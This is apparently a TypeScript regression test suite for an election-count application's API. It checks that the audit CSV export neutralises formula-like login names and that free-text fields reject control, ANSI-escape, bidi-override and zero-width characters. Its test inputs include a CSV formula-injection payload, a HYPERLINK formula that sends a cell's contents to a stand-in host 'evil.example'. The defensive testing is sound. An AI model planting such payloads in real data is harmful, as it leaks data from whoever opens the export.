/**
 * Issue 9, defects 4 and 5 through the real server: formula injection in the audit CSV export
 * (without an account) and control / bidi-override / blank-looking characters in free-text fields.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { ApiClient, adminClient, startTestServer, userClient, type TestServer } from '../support/server.ts';

const BAD_TEXTS: [string, string][] = [
  ['NUL', 'Jan\u0000Jansen'],
  ['BEL', 'Jan Jansen\u0007'],
  ['ANSI escape', '\u001b[2J\u001b[31mJan'],
  ['U+202E', 'Jan \u202Enesnaj'],
  ['only zero-width spaces', '\u200b\u200b'],
];

/** The cells of a `;`-separated CSV line with double-quoted cells. */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let v = '';
      i++;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') (v += '"'), (i += 2);
        else if (line[i] === '"') {
          i++;
          break;
        } else v += line[i++];
      }
      out.push(v);
      i++;
    } else {
      const end = line.indexOf(';', i);
      out.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return out;
}

describe('audit CSV export (issue 9, defect 4)', () => {
  let server: TestServer;
  before(async () => {
    server = await startTestServer();
  });
  after(() => server.close());

  test('login names that look like formulas are neutralised in the export', async () => {
    const anonymous = new ApiClient(server.url);
    const names = ['=2+5', '=HYPERLINK("http://evil.example/?"&A1;"klik")', '+31612345678', '-1+1', '@SUM(1;2)'];
    for (const n of names) assert.equal((await anonymous.login(n, 'een-wachtwoord-12')).status, 401);
    const admin = await adminClient(server);
    const csv = await admin.get('/api/audit/export');
    assert.equal(csv.status, 200);
    const rows = csv.text.replace(/^\uFEFF/, '').split('\r\n').filter((l) => l !== '').map(cells);
    for (const row of rows) {
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} starts like a formula`);
    }
    const usernames = rows.map((r) => r[3]);
    for (const n of names) assert.ok(usernames.includes(`'${n}`), `${n} is in the export, with an apostrophe in front`);
  });
});

describe('free-text fields (issue 9, defect 5)', () => {
  let server: TestServer;
  let admin: ApiClient;
  before(async () => {
    server = await startTestServer();
    admin = await adminClient(server);
  });
  after(() => server.close());

  for (const [what, fullName] of BAD_TEXTS) {
    test(`user full name with ${what}: 400 naming the field`, async () => {
      const r = await admin.post('/api/users', { username: `gebruiker-${what.length}`, fullName, role: 'invoer', initialPassword: 'een-wachtwoord-12' });
      assert.equal(r.status, 400, r.text);
      assert.equal(r.json.error.code, 'request.invalid');
      assert.match(r.json.error.message, /Volledige naam bevat/);
    });
  }

  test('an ordinary full name with accents is still accepted', async () => {
    const r = await admin.post('/api/users', { username: 'zoe', fullName: "Zoë d'Ancona", role: 'invoer', initialPassword: 'een-wachtwoord-12' });
    assert.equal(r.status, 201, r.text);
  });

  test('deletion and resolve reasons, and the PV remarks, refuse the same characters', async () => {
    const leader = await userClient(server, admin, 'verkiezingsleider', 'leider');
    for (const [, text] of BAD_TEXTS) {
      const del = await leader.post('/api/counts/0034/delete', { reason: text });
      assert.equal(del.status, 400, del.text);
      assert.match(del.json.error.message, /Reden bevat/);
      const res = await leader.post('/api/counts/0034/resolve', { choice: 'first', reason: text });
      assert.equal(res.status, 400, res.text);
      assert.match(res.json.error.message, /Reden bevat/);
      const pv = await leader.request('PUT', '/api/pv-details', {
        session: { place: 'Lelystad', date: '', time: '' },
        members: [],
        objections: null,
        remarks: text,
      });
      assert.equal(pv.status, 400, pv.text);
      assert.match(pv.json.error.message, /Opmerkingen bevat/);
      const member = await leader.request('PUT', '/api/pv-details', {
        session: { place: 'Lelystad', date: '', time: '' },
        members: [{ name: text, role: 'voorzitter' }],
        objections: null,
        remarks: null,
      });
      assert.equal(member.status, 400, member.text);
      assert.match(member.json.error.message, /Naam van het lid bevat/);
    }
  });
});
